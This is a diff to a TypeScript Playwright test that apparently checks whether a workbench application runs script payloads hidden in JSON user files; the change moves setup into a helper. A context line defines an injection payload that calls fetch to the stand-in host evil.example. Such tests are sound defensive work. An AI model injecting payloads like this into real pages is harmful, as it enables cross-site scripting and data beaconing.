@@ -1,11 +1,9 @@
 import assert from 'node:assert/strict';
-import { writeFileSync } from 'node:fs';
-import { join } from 'node:path';
-import { startSandbox, type Sandbox } from '../../src/sandbox/startSandbox';
-import { copySampleFolder } from '../host/sampleFolder';
-import { openWorkbench, type Workbench } from '../host/workbench';
+import type { Dialog, Request } from 'playwright-core';
+import type { Sandbox } from '../../src/sandbox/startSandbox';
+import type { Workbench } from '../host/workbench';
 import { accounts } from '../sandboxAccounts';
-import { addEnvironment, keepPictures } from './steps';
+import { setStage } from './stage';
 
 const run = 'window.top.ran=1,fetch("https://evil.example/ran")';
 const payloads: readonly string[] = [
@@ -66,12 +64,13 @@ describe('a form of things that would be scripts', () => {
   let workbench: Workbench;
   const requested: string[] = [];
   const asked: string[] = [];
-
-  keepPictures(() => workbench);
+  const noteRequest = (request: Request) => requested.push(request.url());
+  const noteDialog = (dialog: Dialog) => {
+    asked.push(dialog.message());
+    void dialog.dismiss();
+  };
   before(async () => {
     assert.equal(new Set(payloads).size, 50);
-    sandbox = await startSandbox();
-    const folder = copySampleFolder();
     const members = (from: number, to: number) =>
       payloads.slice(from, to).map((payload) => `${JSON.stringify(payload)}: ${JSON.stringify(payload)}`);
     const lists = {
@@ -85,26 +84,14 @@ describe('a form of things that would be scripts', () => {
       (name, index) => `"${name}": ${JSON.stringify(payloads[index])}`,
     );
     const target = `"$truto": { "integrated_account_id": "${accounts.hubspot}", "id": "usr_ada" }`;
-    writeFileSync(
-      join(folder, 'evil.truto-user.json'),
-      `{ ${[target, ...texts, ...known, ...members(0, 50), `"remote_data": { ${members(0, 50).join(', ')} }`].join(',\n')} }\n`,
-    );
-    writeFileSync(
-      join(folder, 'asked.truto-user.json'),
-      `{ ${target},\n "languages": ${JSON.stringify(payloads.map((_, index) => `l${index}`))} }\n`,
-    );
-    workbench = await openWorkbench({ folder });
-    workbench.page.on('request', (request) => requested.push(request.url()));
-    workbench.page.on('dialog', (dialog) => {
-      asked.push(dialog.message());
-      void dialog.dismiss();
-    });
-    await addEnvironment(workbench, { name: 'Test', ...sandbox });
+    const evil = `{ ${[target, ...texts, ...known, ...members(0, 50), `"remote_data": { ${members(0, 50).join(', ')} }`].join(',\n')} }\n`;
+    const plain = `{ ${target},\n "languages": ${JSON.stringify(payloads.map((_, index) => `l${index}`))} }\n`;
+    ({ workbench, sandbox } = await setStage({
+      files: { 'evil.truto-user.json': evil, 'asked.truto-user.json': plain },
+    }));
+    workbench.page.on('request', noteRequest).on('dialog', noteDialog);
   });
-  after(async () => {
-    await workbench.close();
-    await sandbox.close();
-  });
+  after(() => void workbench.page.off('request', noteRequest).off('dialog', noteDialog));
 
   async function assertNothingRan(): Promise<void> {
     for (const frame of workbench.page.frames())
